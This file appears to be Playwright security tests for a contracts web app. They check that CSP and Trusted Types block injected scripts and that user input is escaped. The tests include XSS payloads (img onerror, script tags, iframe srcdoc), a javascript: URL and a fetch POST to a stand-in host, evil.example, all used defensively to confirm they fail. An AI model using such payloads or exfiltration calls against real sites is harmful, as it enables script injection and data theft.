import { expect, type Page } from '@playwright/test';
import { APP_URL } from './addresses';
import { openContract } from './demo';
import { test } from './fixtures';
import { NIGHTLY } from './nightly';
import { watchPage } from './page-watch';
import { Person } from './person';

/** Injects a script in every way that markup and scripts allow. @returns the ways that ran, and those that threw */
async function injectScripts(page: Page): Promise<{ ran: string[]; refused: string[] }> {
  return page.evaluate(async () => {
    const [ran, refused]: [string[], string[]] = [[], []];
    Object.assign(window, { ran });
    const attempt = (way: string, inject: () => unknown) => {
      try {
        inject();
      } catch {
        refused.push(way);
      }
    };
    const append = (tag: string, prepare: (element: HTMLElement) => void) => {
      const element = document.createElement(tag);
      prepare(element);
      document.body.append(element);
    };
    const toUrl = (way: string) =>
      URL.createObjectURL(new Blob([`window.ran.push("${way}")`], { type: 'text/javascript' }));
    const markup =
      '<img src="/none" onerror="window.ran.push(\'markup\')"><iframe srcdoc="<script>parent.ran.push(1)</script>">';
    attempt('text', () =>
      append('script', (script) => Object.assign(script, { textContent: 'window.ran.push("text")' })),
    );
    attempt('node', () =>
      append('script', (script) => script.append(document.createTextNode('window.ran.push("node")'))),
    );
    attempt('address', () => append('script', (script) => Object.assign(script, { src: toUrl('address') })));
    attempt('data', () =>
      append('script', (script) => Object.assign(script, { src: 'data:,window.ran.push("data")' })),
    );
    attempt('innerHTML', () => append('div', (holder) => Object.assign(holder, { innerHTML: markup })));
    attempt('outerHTML', () =>
      Object.assign(document.body.appendChild(document.createElement('i')), { outerHTML: markup }),
    );
    attempt('insertAdjacentHTML', () => document.body.insertAdjacentHTML('beforeend', markup));
    attempt('srcdoc', () => append('iframe', (frame) => Object.assign(frame, { srcdoc: markup })));
    attempt('fragment', () => document.body.append(document.createRange().createContextualFragment(markup)));
    attempt('parser', () => document.body.append(new DOMParser().parseFromString(markup, 'text/html').body));
    attempt('handler', () =>
      append('img', (image) => {
        image.setAttribute('onerror', 'window.ran.push("handler")');
        image.setAttribute('src', '/none');
      }),
    );
    attempt('worker', () => new Worker(toUrl('worker')));
    attempt('policy', () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      trustedTypes.createPolicy('evil', { createHTML: (text: string) => text });
    });
    attempt('second policy', () => {
      const { trustedTypes } = window as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      trustedTypes.createPolicy('aval-worker', { createScriptURL: (text: string) => text });
    });
    // Imports are no business of Trusted Types: the sources of scripts stop them.
    for (const url of ['data:text/javascript,window.ran.push("import")', toUrl('import')])
      await import(url).catch(() => undefined);
    await new Promise((resolve) => setTimeout(resolve, 500));
    return { ran, refused };
  });
}

test('keys are created under the CSP of the page, in a worker with a CSP of its own', async ({ visitor: page }) => {
  const policies: (string | undefined)[] = [];
  page.on('response', (response) => {
    if (/\/assets\/worker/.test(response.url())) policies.push(response.headers()['content-security-policy']);
  });
  await new Person(page, 'ana').registerAndLogIn();
  expect(policies.length).toBeGreaterThan(0);
  for (const policy of policies)
    expect(policy).toMatch(
      /default-src 'none'; .*connect-src 'self'; .*require-trusted-types-for 'script'; trusted-types 'none'/,
    );
});

test('injected scripts do not run, and no request leaves the origin', async ({ page }) => {
  const watch = await watchPage(page, APP_URL);
  await page.goto('/login');
  const { ran, refused } = await injectScripts(page);
  expect(ran).toEqual([]);
  for (const way of ['text', 'address', 'data', 'innerHTML', 'outerHTML', 'insertAdjacentHTML', 'srcdoc', 'fragment'])
    expect(refused).toContain(way);
  for (const way of ['parser', 'worker', 'policy', 'second policy']) expect(refused).toContain(way);
  const violations = watch.violations.join('\n');
  for (const directive of [
    'require-trusted-types-for',
    'trusted-types',
    'script-src-elem data',
    'script-src-elem blob',
  ])
    expect(violations).toContain(directive);
  const left = await page.evaluate(() =>
    fetch('https://evil.example/', { method: 'POST', body: 'x', mode: 'no-cors' }).then(
      () => 'sent',
      () => 'kept',
    ),
  );
  expect([left, watch.foreignRequests]).toEqual(['kept', []]);
});

test('forbids framing', async ({ page, request }) => {
  const headers = (await request.get('/login')).headers();
  expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
  expect(headers).toMatchObject({ 'referrer-policy': 'no-referrer', 'x-content-type-options': 'nosniff' });
  await page.goto('/login');
  const policy = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(policy).toContain("default-src 'none'; script-src 'self' 'wasm-unsafe-eval'; style-src 'self'");
});

test('shows user input as text, and opens no unsafe address', async ({ visitor: page }) => {
  const evil = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>';
  const ana = new Person(page, 'ana');
  await ana.registerAndLogIn();
  await ana.createContract(`Roof ${evil}`, `Tiles ${evil}`, 'Save as Draft');
  await expect(page.getByText(`Tiles ${evil}`)).toBeVisible();
  await openContractWithPdf(page, 'javascript:window.pwned=1//a.pdf');
  await expect(page.getByText("can't be opened safely")).toBeVisible();
  expect(await page.locator('a[href^="javascript"], main img').count()).toBe(0);
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
});

test('a tab whose files a deployment has replaced says so once and can be reloaded', { tag: NIGHTLY }, async ({
  ana: page,
}) => {
  const devel = page.getByRole('button', { name: 'Devel' });
  // On a busy machine the network may be idle before the page asks for its last parts.
  await expect(devel).toBeVisible();
  await page.waitForLoadState('networkidle');
  await page.route('**/assets/*', (route) => route.fulfill({ status: 404 }));
  await devel.click();
  await page.getByRole('menuitem', { name: 'View All Mockups' }).click();
  const screen = page.getByRole('alert').filter({ hasText: 'Something went wrong on this screen' });
  await expect(screen).toBeVisible();
  await expect(page.getByText('A part of this page could not be loaded')).toBeHidden();
  await page.unrouteAll({ behavior: 'wait' });
  await screen.getByRole('button', { name: 'Reload' }).click();
  await expect(page).toHaveURL(/\/devel$/);
  await expect(page.getByRole('heading', { level: 1, name: 'Something went wrong on this screen' })).toBeHidden();
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
});

/** Opens a contract with a PDF address that the app itself would never send. */
async function openContractWithPdf(page: Page, pdf_url: string): Promise<void> {
  const id = await page.evaluate(async (url) => {
    const { id: owner } = JSON.parse(localStorage.getItem('user') ?? '{}');
    const draft = {
      title: 'With a PDF',
      description: 'x',
      contract_order: 0,
      status: 'draft',
      pdf_url: url,
      contractors: [owner],
      arbitrator: '1',
      guarantees: [],
    };
    const answer = await fetch('/api/contracts', {
      method: 'POST',
      headers: { 'Content-Type': 'application/json' },
      body: JSON.stringify(draft),
    });
    return (await answer.json()).data.id;
  }, pdf_url);
  await page.goto(`/contracts/${id}`);
  await expect(page.getByRole('heading', { name: 'With a PDF' })).toBeVisible();
}

test("the browser's Back asks before a dialog loses what was typed", async ({ ana: page }) => {
  const roof = await openContract(page, 'New roof');
  const card = page.getByRole('article', { name: 'Workmanship of the beams' });
  await card.getByRole('heading', { level: 3 }).getByRole('button').click();
  await card.getByRole('button', { name: 'Release Guarantee' }).click();
  const field = page.getByRole('dialog').getByLabel('Destination Bitcoin Address');
  await field.fill('bcrt1q');
  for (const answer of ['Keep editing', 'Discard']) {
    await page.evaluate(() => history.back());
    await page.getByRole('button', { name: answer }).click();
    if (answer === 'Keep editing') await expect(field).toHaveValue('bcrt1q');
  }
  await expect(page.getByRole('dialog')).toHaveCount(0);
  expect(new URL(page.url()).pathname).toBe(roof);
});
